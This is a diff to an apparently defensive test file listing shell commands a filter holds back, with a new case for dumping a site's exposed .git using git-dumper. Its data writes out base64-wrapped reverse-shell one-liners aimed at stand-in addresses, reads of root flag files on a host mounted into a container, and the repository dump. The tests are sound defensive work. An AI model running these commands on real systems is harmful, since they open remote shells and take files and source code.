@@ -20,7 +20,8 @@ are variants written for the tests, not the ones measured:
   (``cp -r /root ./loot``, ``ln -s /root courses``), not only a file under it. Listing it (``ls /root``)
   and checking it (``stat``) stay allowed; a remote shell piped into an encoder (``echo 'bash -i >&
   /dev/tcp/IP/4444 0>&1' | base64``): the payload made to pass a filter; another account's file on another
-  root file system (``cat /mnt/root/root.txt`` after an LXD container was given the host's ``/``).
+  root file system (``cat /mnt/root/root.txt`` after an LXD container was given the host's ``/``); from left21's
+  held-out sample (blankshiro's write-ups): a site's exposed ``.git`` dumped (``git-dumper URL dir``).
 """
 
 from __future__ import annotations
@@ -76,6 +77,10 @@ HELD = {
         "cat /mnt/home/mike/user.txt",
         "cp /host/root/notes.txt .",
     ],
+    "a site's .git dumped": [
+        "git-dumper http://dev.example.htb/.git/ ./dump",
+        "goop target.htb",
+    ],
     "a remote shell encoded": [
         "echo 'bash -i >& /dev/tcp/10.10.14.7/4444 0>&1' | base64",
         "printf 'sh -i >& /dev/udp/10.0.0.1/9001 0>&1' | base64 -w0",
@@ -107,5 +112,7 @@ ALLOWED = [
     "echo -n 'user:token' | base64",
     "cat /mnt/home/dev/notes.txt",
     "cat /mnt/data/report.csv",
+    "git-dumper --help",
+    "git clone https://github.com/arthaud/git-dumper",
     "echo 'nc -z localhost 5432' | base64",
 ]
